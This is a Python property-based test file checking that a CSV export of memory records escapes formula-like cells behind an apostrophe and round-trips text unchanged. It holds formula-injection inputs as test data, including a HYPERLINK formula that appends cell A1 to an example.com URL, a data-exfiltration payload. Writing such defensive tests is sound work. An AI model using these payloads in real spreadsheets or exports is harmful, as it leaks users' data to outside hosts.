"""The CSV export (supamem/memory_csv.py): any memory text comes back as written, and no text cell
starts the way a spreadsheet formula does (a memory is what a user or a model wrote)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from uuid import uuid4

from hypothesis import given
from hypothesis import strategies as st

from supamem.memory_csv import read_csv, write_csv

TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1)
FORMULA = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "''", "=1+1", "-2", "@SUM(A1)"])


def a_memory(content: str, category: str | None) -> dict:
    now = datetime(2026, 11, 27, tzinfo=UTC).isoformat()
    return {"id": str(uuid4()), "user_id": str(uuid4()), "tenant_id": None, "profile_id": str(uuid4()),
            "content": content, "type": "fact", "category": category, "confidence": 0.9, "context": {"n": -1},
            "origin_mode": "chat", "source_conversation_id": None, "source_message_id": None, "turn_index": None,
            "pinned": False, "active": True, "archived": False, "deleted_at": None, "expires_at": None,
            "created_at": now, "updated_at": now, "last_referenced_at": None, "reference_count": 0,
            "superseded_by": None}


@given(content=st.one_of(TEXT, st.builds(str.__add__, FORMULA, TEXT)), category=st.one_of(st.none(), TEXT, FORMULA))
def test_a_memory_comes_back_as_written_and_no_cell_reads_as_a_formula(content: str, category: str | None) -> None:
    memory = a_memory(content, category)
    out = io.StringIO()
    assert write_csv({"memories": [memory]}, out) == 1
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
    (back,) = read_csv(out.getvalue())["memories"]
    assert (back["content"], back["category"], back["confidence"], back["context"]) == (
        content, category, 0.9, {"n": -1})


def test_a_formula_is_written_behind_an_apostrophe() -> None:
    out = io.StringIO()
    write_csv({"memories": [a_memory('=HYPERLINK("http://example.com/?"&A1, "x")', "'quoted")]}, out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["content"] == "'=HYPERLINK(\"http://example.com/?\"&A1, \"x\")"
    assert row["category"] == "''quoted"
